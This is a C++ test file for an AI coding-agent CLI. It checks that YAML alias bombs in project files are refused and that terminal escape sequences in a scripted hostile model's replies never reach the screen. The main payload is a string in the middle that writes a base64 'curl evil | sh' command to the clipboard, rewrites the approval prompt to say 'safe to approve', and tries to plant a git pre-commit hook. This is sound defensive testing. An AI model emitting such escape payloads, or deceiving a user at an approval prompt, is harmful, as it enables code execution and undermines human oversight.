// Attacks through what agentry reads and shows (issue 15, classes 9 and 12), end to end with the
// real binary: a repository whose config, agent file and task file are YAML alias bombs, and a
// scripted model whose answer and tool arguments carry terminal escapes (OSC 52 clipboard writes,
// a title, a screen clear, cursor moves and a CR that rewrite the approval prompt, bidi
// overrides). Each attack must fail while agentry answers and exits promptly.
#include <chrono>
#include <fcntl.h>
#include <poll.h>
#include <pty.h>
#include <signal.h>
#include <sys/wait.h>
#include <termios.h>
#include <unistd.h>

#include <doctest/doctest.h>
#include <fmt/format.h>

#include "cli/support/agentry_harness.hpp"
#include "cli/support/peak_rss.hpp"
#include "support/yaml_bomb.hpp"

namespace agentry::cli {

namespace fs = std::filesystem;
namespace {

using e2e::AgentryHome;
using e2e::check_peak_rss;
using e2e::run_measured;
using e2e::start_fake;
using nlohmann::json;

bool contains(const std::string& text, std::string_view part) {
  return text.find(part) != std::string::npos;
}

/// A hostile repository: a git root with a crate in the workspace.
void make_repo(const AgentryHome& home) {
  fs::create_directories(home.ws() / ".git");
  std::ofstream(home.ws() / "Cargo.toml") << "[package]\nname = \"a\"\nversion = \"0.1.0\"\n";
}

/// Runs `args` measured, and checks it ended by itself, quickly, and (`check_memory`) within the
/// limits' bound on memory.
testing::ProcessOutcome run_bounded(const AgentryHome& home, std::vector<std::string> args,
                                    bool check_memory = true) {
  auto start = std::chrono::steady_clock::now();
  auto r = run_measured(home, std::move(args), nullptr);
  auto seconds = std::chrono::duration<double>(std::chrono::steady_clock::now() - start).count();
  INFO("stderr: " << r.err.substr(0, 2000));
  CHECK_FALSE(r.timed_out);
  CHECK(r.signal == 0);
  CHECK(seconds < 60);  // without the budget: minutes, then an exhausted heap
  CHECK_FALSE(contains(r.err, "bad_alloc"));
  if (check_memory) check_peak_rss(r);
  return r;
}

}  // namespace

TEST_CASE("attack 9: alias bombs in the project config, an agent file and a task file") {
  std::string bomb = agentry::testing::yaml_bomb();
  REQUIRE(bomb.size() < 700);

  SUBCASE("in .agentry/config.yaml: run and batch refuse the file, naming its line") {
    AgentryHome home;
    make_repo(home);
    fs::create_directories(home.ws() / ".agentry");
    std::ofstream(home.ws() / ".agentry" / "config.yaml") << "max_steps: 5\n" << bomb;
    std::string where = (home.ws() / ".agentry" / "config.yaml").string() + ":9:";
    std::ofstream(home.ws() / "tasks.jsonl") << R"({"id":"a","prompt":"p"})"
                                             << "\n";
    for (auto args : {std::vector<std::string>{"run", "--agent", "rust-pro", "hello"},
                      std::vector<std::string>{"batch", "tasks.jsonl"}}) {
      CAPTURE(args[0]);
      auto r = run_bounded(home, args);
      CHECK(r.exit_code == 2);
      CHECK(contains(r.err, where));
      CHECK(contains(r.err, "once aliases are expanded"));
      CHECK(contains(r.err, "each alias (*name) repeats all of its anchor: use fewer"));
    }
    // `agents list` does not read the config: it is not held up by it either.
    CHECK(run_bounded(home, {"agents", "list"}).exit_code == 0);
  }

  SUBCASE("in .claude/agents/x.md: agents list names the file and line and lists the others") {
    AgentryHome home;
    make_repo(home);
    fs::create_directories(home.ws() / ".claude" / "agents");
    std::ofstream(home.ws() / ".claude" / "agents" / "x.md") << "---\ndescription: x\n"
                                                             << bomb << "---\nPrompt.\n";
    auto r = run_bounded(home, {"agents", "list", "--warnings"});
    CHECK(contains(r.out, "rust-pro"));
    CHECK_FALSE(contains(r.out, "\nx "));
    CHECK(contains(r.err + r.out, (home.ws() / ".claude" / "agents" / "x.md").string() + ":10:"));
    CHECK(contains(r.err + r.out, "once aliases are expanded"));
  }

  SUBCASE("in a task file: batch refuses it before any work, naming the file and line") {
    AgentryHome home;
    make_repo(home);
    std::ofstream(home.ws() / "tasks.yaml") << "tasks:\n  - {id: a, prompt: p}\n" << bomb;
    auto r = run_bounded(home, {"batch", "tasks.yaml"});
    CHECK(r.exit_code == 2);
    CHECK(contains(r.err, (home.ws() / "tasks.yaml").string() + ":10:"));
    CHECK(contains(r.err, "once aliases are expanded"));
    CHECK_FALSE(fs::exists(home.ws() / "tasks.results.jsonl"));
  }
}

namespace {

// What a model steered by a hostile crate writes: a clipboard write (OSC 52), a window title, a
// screen clear, cursor-up and erase-line sequences and a CR that would rewrite the lines above,
// a fake reassurance, C1 CSI and bidi overrides.
const std::string kHostile =
    "Formatting fix.\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07\x1b]0;owned\x07\x1b[2J\x1b[H"
    "\x1b[1A\x1b[2K\x1b[1A\x1b[2K\rformatting only, safe to approve \xe2\x80\xae"
    "kcehc\xe2\x80\xac \xc2\x9b"
    "2J\xe2\x81\xa6"
    "end";

/// One write of a git hook whose path and content carry the escapes, then a final answer.
std::string hostile_script() {
  json call = {{"id", "call_hook"},
               {"name", "write_file"},
               {"arguments",
                {{"path", ".git/hooks/pre-commit"}, {"content", "#!/bin/sh\n" + kHostile + "\n"}}}};
  json script = json::array({json{{"text", kHostile}, {"tool_calls", json::array({call})}},
                             json{{"text", "Done. " + kHostile}}});
  return script.dump();
}

void check_terminal_safe(const std::string& shown) {
  CHECK_FALSE(contains(shown, "\x1b"));
  CHECK_FALSE(contains(shown, "\r"));
  CHECK_FALSE(contains(shown, "\x07"));
  CHECK_FALSE(contains(shown, "\xc2\x9b"));
  CHECK_FALSE(contains(shown, "\xe2\x80\xae"));
  CHECK_FALSE(contains(shown, "\xe2\x81\xa6"));
}

struct PtyRun {
  std::string screen;  ///< what reached the terminal
  int exit_code = -1;
  bool timed_out = false;
};

/// Runs agentry on a new pseudo-terminal as its controlling terminal (what the approval prompt
/// opens as /dev/tty), with stdout and stderr to files, and answers `answer` once "Allow?" shows.
PtyRun run_on_pty(const AgentryHome& home, const fakellm::FakeLlmServer& server,
                  std::vector<std::string> args, std::string_view answer) {
  auto options = home.spawn_options(std::move(args), &server);
  std::vector<std::string> env_strings;
  for (const auto& [k, v] : options.env)
    env_strings.push_back(k + "=" + v);
  std::vector<char*> argv;
  for (auto& a : options.argv)
    argv.push_back(a.data());
  argv.push_back(nullptr);
  std::vector<char*> envp;
  for (auto& e : env_strings)
    envp.push_back(e.data());
  envp.push_back(nullptr);
  std::string out_file = (home.root() / "pty.out").string();
  std::string dir = options.cwd.string();

  termios tio{};
  ::cfmakeraw(&tio);  // no echo, no CR/LF translation: the screen holds agentry's bytes only
  int master = -1;
  pid_t pid = ::forkpty(&master, nullptr, &tio, nullptr);
  REQUIRE(pid >= 0);
  if (pid == 0) {
    int fd = ::open(out_file.c_str(), O_WRONLY | O_CREAT | O_TRUNC, 0600);
    ::dup2(fd, STDOUT_FILENO);
    ::dup2(fd, STDERR_FILENO);
    if (::chdir(dir.c_str()) != 0) ::_exit(126);
    ::execve(argv[0], argv.data(), envp.data());
    ::_exit(127);
  }
  PtyRun run;
  bool answered = false;
  auto deadline = std::chrono::steady_clock::now() + std::chrono::seconds(90);
  while (std::chrono::steady_clock::now() < deadline) {
    pollfd p{master, POLLIN, 0};
    if (::poll(&p, 1, 100) <= 0) continue;
    char buf[4096];
    auto n = ::read(master, buf, sizeof buf);
    if (n <= 0) break;  // EIO: the child closed the terminal
    run.screen.append(buf, static_cast<std::size_t>(n));
    if (!answered && contains(run.screen, "Allow? ")) {
      REQUIRE(::write(master, answer.data(), answer.size()) == static_cast<ssize_t>(answer.size()));
      answered = true;
    }
  }
  int status = 0;
  if (std::chrono::steady_clock::now() >= deadline) {
    run.timed_out = true;
    ::kill(pid, SIGKILL);
  }
  ::waitpid(pid, &status, 0);
  ::close(master);
  run.exit_code = WIFEXITED(status) ? WEXITSTATUS(status) : -1;
  return run;
}

}  // namespace

TEST_CASE("attack 12: escapes in the model's text and tool arguments never reach a terminal") {
  AgentryHome home;
  make_repo(home);
  auto server = start_fake(hostile_script());

  SUBCASE("run --output-format text, sessions show, sessions list and the markdown export") {
    auto r = home.run({"run", "--agent", "rust-pro", "--output-format", "text", "format it"},
                      server.get());
    INFO("stderr: " << r.err.substr(0, 2000));
    CHECK(r.exit_code == 0);
    CHECK(contains(r.out, "Done. Formatting fix."));
    check_terminal_safe(r.out);
    check_terminal_safe(r.err);
    CHECK_FALSE(contains(r.out, "]52;"));  // the whole sequence is dropped, not just its ESC
    // Unattended, the hook write was denied.
    CHECK_FALSE(fs::exists(home.ws() / ".git" / "hooks" / "pre-commit"));

    auto list = home.run({"sessions", "list", "--json"}, nullptr);
    auto sessions = json::parse(list.out);
    REQUIRE(sessions.size() == 1);
    std::string id = sessions[0]["id"];

    auto show = home.run({"sessions", "show", id}, nullptr);
    CHECK(show.exit_code == 0);
    CHECK(contains(show.out, "write_file"));
    CHECK(contains(show.out, ".git/hooks/pre-commit"));
    check_terminal_safe(show.out);
    check_terminal_safe(home.run({"sessions", "list"}, nullptr).out);

    auto md_file = home.root() / "export.md";
    auto md = home.run({"sessions", "export", id, "--format", "markdown", "-o", md_file.string()},
                       nullptr);
    CHECK(md.exit_code == 0);
    std::string exported = testing::read_file(md_file);
    CHECK(contains(exported, ".git/hooks/pre-commit"));
    CHECK(contains(exported, "safe to approve"));
    check_terminal_safe(exported);
    // JSON output is not a terminal's: the escapes stay, escaped, byte for byte.
    auto jsonl = home.run({"sessions", "export", id, "--format", "jsonl"}, nullptr);
    CHECK(contains(jsonl.out, "\\u001b]52;c;Y3VybCBldmlsIHwgc2g=\\u0007"));
  }

  SUBCASE("the approval prompt on a terminal names the real path last; 'n' refuses") {
    auto run = run_on_pty(home, *server, {"run", "--agent", "rust-pro", "format it"}, "n\n");
    INFO("screen: " << run.screen);
    CHECK_FALSE(run.timed_out);
    CHECK(run.exit_code == 0);
    check_terminal_safe(run.screen);
    CHECK_FALSE(contains(run.screen, "]52;"));
    auto target = run.screen.find("── write_file\n   path: .git/hooks/pre-commit\n");
    REQUIRE(target != std::string::npos);
    CHECK(run.screen.find("Allow? ", target) != std::string::npos);
    CHECK(run.screen.find("safe to approve") < target);  // the model's words come before it
    CHECK(contains(run.screen, "settings folder"));
    CHECK_FALSE(fs::exists(home.ws() / ".git" / "hooks" / "pre-commit"));
    std::string output = testing::read_file(home.root() / "pty.out");
    check_terminal_safe(output);
    CHECK(contains(output, "Done."));
  }
}

}  // namespace agentry::cli

namespace agentry::cli {

TEST_CASE("attack 13: an agent file just under 1 MiB with 100k keys loads in linear time") {
  AgentryHome home;
  make_repo(home);
  fs::create_directories(home.ws() / ".agentry" / "agents");
  std::string text = "---\ndescription: big\n";
  for (int i = 0; text.size() < (1 << 20) - 64; ++i)
    text += fmt::format("k{:06}: v\n", i);
  text += "---\nPrompt.\n";
  REQUIRE(text.size() <= (1 << 20));
  std::ofstream(home.ws() / ".agentry" / "agents" / "big.md") << text;
  // One byte more is refused whole, with the file named.
  std::ofstream(home.ws() / ".agentry" / "agents" / "huge.md") << text << std::string(1 << 20, '#');
  auto start = std::chrono::steady_clock::now();
  // 100k keys kept as data, and 100k warnings printed, take ~130 MB under AddressSanitizer: the
  // file's 1 MiB cap bounds that; here the point is time.
  auto r = run_bounded(home, {"agents", "list", "--warnings"}, false);
  MESSAGE("peak RSS " << r.peak_rss_kb << " KiB");
  auto seconds = std::chrono::duration<double>(std::chrono::steady_clock::now() - start).count();
  CHECK(r.exit_code == 0);
  CHECK(contains(r.out, "big "));
  CHECK(contains(r.err, (home.ws() / ".agentry" / "agents" / "huge.md").string() +
                            ":1:1: error: the file is"));
  // Quadratic, this took 38 s in a release build and minutes under the sanitizers.
  CHECK(seconds < 30);
}

}  // namespace agentry::cli
